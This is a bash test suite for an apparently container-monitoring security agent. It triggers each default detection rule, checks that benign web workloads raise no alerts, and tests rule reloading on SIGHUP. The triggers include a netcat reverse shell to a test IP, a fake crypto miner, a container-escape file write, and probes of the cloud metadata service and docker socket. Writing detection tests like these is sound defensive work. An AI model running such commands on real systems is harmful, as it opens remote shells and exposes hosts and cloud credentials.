# shellcheck shell=bash
# Family "rules": the default policy on its triggers; benign work stays NORMAL; SIGHUP reload

# Each rule of the default policy on a trigger of its own.
t_default_rules() {
	run "$TAG-r-rev" -- sh -c 'cp /bin/vigil-testbin /tmp/python3 && /tmp/python3 dupsock'
	verdict "Standard stream redirected to a socket" "$TAG-r-rev" '.process.name == "python3"'
	# triggers of their own
	run "$TAG-r-etc" -- sh -c 'echo x > /etc/evil'
	verdict "Write below a system directory" "$TAG-r-etc" '.file.path == "/etc/evil"'
	run "$TAG-r-sysdir" -- sh -c 'mkdir /etc/evil.d'
	verdict "System directory changed" "$TAG-r-sysdir" '.file.path == "/etc/evil.d"'
	run "$TAG-r-nc" -- nc -e /bin/sh 192.0.2.1 4444
	verdict "Netcat with command execution" "$TAG-r-nc"
	run "$TAG-r-miner" -- sh -c 'cp /bin/busybox /tmp/xmrig; /tmp/xmrig --url stratum+tcp://192.0.2.1:3333'
	verdict "Crypto miner started" "$TAG-r-miner"
	run "$TAG-r-sock" -- vigil-testbin connect-unix /var/run/docker.sock
	verdict "Container runtime socket contacted" "$TAG-r-sock" '.net.unix_path == "/var/run/docker.sock"'
	run "$TAG-r-meta" -- vigil-testbin connect 169.254.169.254 80
	verdict "Cloud metadata service contacted" "$TAG-r-meta"
	run "$TAG-r-pkt" -- vigil-testbin packet-socket
	verdict "Packet socket created" "$TAG-r-pkt"
	run "$TAG-r-esc" -- sh -c 'echo x > /tmp/release_agent'
	verdict "Container escape file written" "$TAG-r-esc"
	run "$TAG-r-log" -- sh -c 'mkdir -p /var/log && echo x > /var/log/app.log'
	verdict "Log files truncated" "$TAG-r-log"
	run "$TAG-r-cap" --cap-add SYS_ADMIN -- true
	verdict "Container runs with dangerous capabilities" "$TAG-r-cap"
	run "$TAG-r-hmount" -v /etc:/hostetc:ro -- cat /hostetc/hostname
	verdict "Sensitive host path mounted in container" "$TAG-r-hmount" '.output_fields["fd.mount_root"] == "/etc"'
	run "$TAG-r-hwrite" -v "$WORK/hostdir:/data" -- sh -c 'echo x > /data/.bashrc; echo y > /data/out'
	verdict "Write to a host mount" "$TAG-r-hwrite" '.file.path == "/data/.bashrc"'
	if [ -z "$(events "$TAG-r-hwrite" '.verdict == "INSECURE" and .file.path == "/data/out"')" ]; then
		ok "a data file written on a host mount stays quiet"
	else
		fail "a data file written on a host mount stays quiet"
	fi
	run "$TAG-r-scan" -- vigil-testbin scan 192.0.2.1 1 40
	verdict "Port scan" "$TAG-r-scan" '.net.remote.port >= 20'
	run "$TAG-r-pidns" --pid host -- true
	verdict "Container shares the host PID namespace" "$TAG-r-pidns"
}
# Ordinary container life: nothing INSECURE.
t_benign_normal() {
	local srv=$TAG-b-web cli=$TAG-b-cli c=$TAG-b-misc n
	docker run -d --name "$srv" --network "$NET" --ip 172.31.250.20 "$IMG" \
		sh -c 'mkdir -p /www && echo hello > /www/index.html && exec httpd -f -p 8080 -h /www' >/dev/null
	sleep 1
	docker run --name "$cli" --network "$NET" "$IMG" \
		sh -c 'for i in 1 2 3; do wget -q -O - http://172.31.250.20:8080/index.html; done' >>"$WORK/containers.log" 2>&1
	run "$c" -- sh -c 'cat /etc/hosts /etc/resolv.conf /etc/passwd >/dev/null; echo data > /tmp/file;
		mkdir -p /tmp/d && mv /tmp/file /tmp/d/ && rm -r /tmp/d; ls / >/dev/null; sh -c "echo nested" >/dev/null'
	expect "(benign client finished)" "$cli" '.type == "container_exit"' >/dev/null
	expect "(benign workload finished)" "$c" '.type == "container_exit"' >/dev/null
	n=$(jq -c --arg a "$srv" --arg b "$cli" --arg c "$c" \
		'select(.container.name == $a or .container.name == $b or .container.name == $c) | select(.verdict == "INSECURE")' "$OUT" | wc -l)
	if [ "$n" = 0 ] && [ -n "$(events "$cli" '.type == "connect" and .net.remote.port == 8080 and .verdict == "NORMAL"')" ] &&
	   [ -n "$(events "$srv" '.type == "accept" and .verdict == "NORMAL"')" ]; then
		ok "benign: web server and client, entrypoint scripts, /etc/hosts, /tmp writes stay NORMAL"
	else
		fail "benign workloads stay NORMAL" "$(jq -c --arg a "$srv" --arg b "$cli" --arg c "$c" \
			'select(.container.name == $a or .container.name == $b or .container.name == $c) | select(.verdict == "INSECURE") | [.container.name, .type, .rules, .output]' "$OUT" | head -5)"
	fi
}
# SIGHUP: a good file replaces the rules; a broken one is reported with its
# position and the rules in use stay.
t_rules_reload() {
	local r=$WORK/reload.yaml rout=$WORK/reload.json rerr=$WORK/reload.err pid n
	cp "$ROOT/rules/vigil_rules.yaml" "$r"
	agent_start reload --rules "$r" --alerts-only || { fail "reload: agent starts"; return; }
	pid=$AGENT_PID
	# listen(): a syscall no default rule tests, so not attached at first
	mark() { run "$1" -- vigil-testbin accept 7777; }
	mark "$TAG-rl-1"
	cat >>"$r" <<'EOF2'

- rule: Reload marker
  desc: added while the agent runs
  condition: evt.type = listen and container
  output: marker ran (container=%container.name)
  priority: NOTICE
EOF2
	kill -HUP "$pid"
	for _ in $(seq 50); do [ "$(grep -c 'syscall events' "$rerr")" -ge 2 ] && break; sleep 0.1; done
	mark "$TAG-rl-2"
	printf '\n- rule: Broken\n  condition: evt.type = = x\n  output: x\n  priority: NOTICE\n' >>"$r"
	kill -HUP "$pid"
	for _ in $(seq 50); do grep -q 'reload failed' "$rerr" && break; sleep 0.1; done
	mark "$TAG-rl-3"
	sleep 1
	kill -TERM "$pid"
	wait "$pid"
	n() { jq -c --arg c "$1" 'select(.container.name == $c and (.rules | index("Reload marker") != null))' "$rout" | wc -l; }
	if [ "$(n "$TAG-rl-1")" = 0 ] && [ "$(n "$TAG-rl-2")" = 1 ] && [ "$(n "$TAG-rl-3")" = 1 ]; then
		ok "SIGHUP: a new rule applies from the next event; a broken file keeps the rules in use"
	else
		fail "SIGHUP reload" "marker alerts: $(n "$TAG-rl-1") $(n "$TAG-rl-2") $(n "$TAG-rl-3") (want 0 1 1)" "$(grep rules "$rerr")"
	fi
	local first second all
	first=$(grep -m1 'syscall events' "$rerr" | sed -n 's/.*events: \([0-9]*\) syscalls (those the rules test).*/\1/p')
	second=$(grep 'syscall events' "$rerr" | sed -n 2p | sed -n 's/.*events: \([0-9]*\) syscalls (those the rules test).*/\1/p')
	# every syscall Vigil reports, as the agent printing every event attached them
	all=$(grep -m1 'syscall events' "$WORK/rules.err" | sed -n 's/.*events: \([0-9]*\) syscalls (all reported).*/\1/p')
	if [ -n "$first" ] && [ -n "$all" ] && [ "$second" = $((first + 1)) ] && [ "$first" -lt "$all" ]; then
		ok "--alerts-only: the kernel sends only the syscalls the rules test ($first), one more after the reload"
	else
		fail "syscall interest from the rules" "$(grep 'syscall events' "$rerr")"
	fi
	if grep -q "reload.yaml:[0-9]*:[0-9]*: " "$rerr" && grep -q "reload failed: keeping the rules in use" "$rerr"; then
		ok "SIGHUP with a broken file: file:line:col error and the old rules kept"
	else
		fail "reload error reported" "$(cat "$rerr")"
	fi
}

family_rules() {
	agent_start rules --learn-seconds 3 --profile-dir "$WORK" || { fail "rules: agent starts"; return; }
	t_default_rules
	t_benign_normal
	t_benign_nginx
	agent_stop
	t_rules_reload
}

# A real nginx serving pages to a client on an internal network stays
# NORMAL: its workers read /proc/sys/kernel/ngroups_max, which Docker
# re-binds from the container's own /proc - not a host mount.
t_benign_nginx() {
	local srv=$TAG-b-nginx cli=$TAG-b-ncli
	"$ROOT/tests/e2e/nginx-image.sh" >/dev/null || { fail "nginx image builds"; return; }
	docker run -d --name "$srv" --network "$NET" --ip 172.31.250.30 vigil-nginx:test >/dev/null
	sleep 1
	docker run --name "$cli" --network "$NET" "$IMG" \
		sh -c 'for i in 1 2 3 4 5 1 2 3 4 5; do wget -q -O /dev/null http://172.31.250.30:8080/p$i.html || exit 1; done' \
		>>"$WORK/containers.log" 2>&1 || fail "nginx serves the client" "$(tail -3 "$WORK/containers.log")"
	exited "$cli"
	expect "nginx: the workers' read of /proc/sys/kernel/ngroups_max is not a host mount, and NORMAL" "$srv" \
		'.type == "open" and .file.path == "/proc/sys/kernel/ngroups_max" and (.file.mount.host | not)
		 and .verdict == "NORMAL"'
	expect "nginx: it accepts the client's connections" "$srv" '.type == "accept" and .net.local.port == 8080 and .verdict == "NORMAL"'
	docker stop -t 2 "$srv" >/dev/null
	exited "$srv"
	quiet "benign: nginx serving pages and its client raise nothing INSECURE" "$srv" "$cli"
	docker rmi vigil-nginx:test >/dev/null 2>&1
}
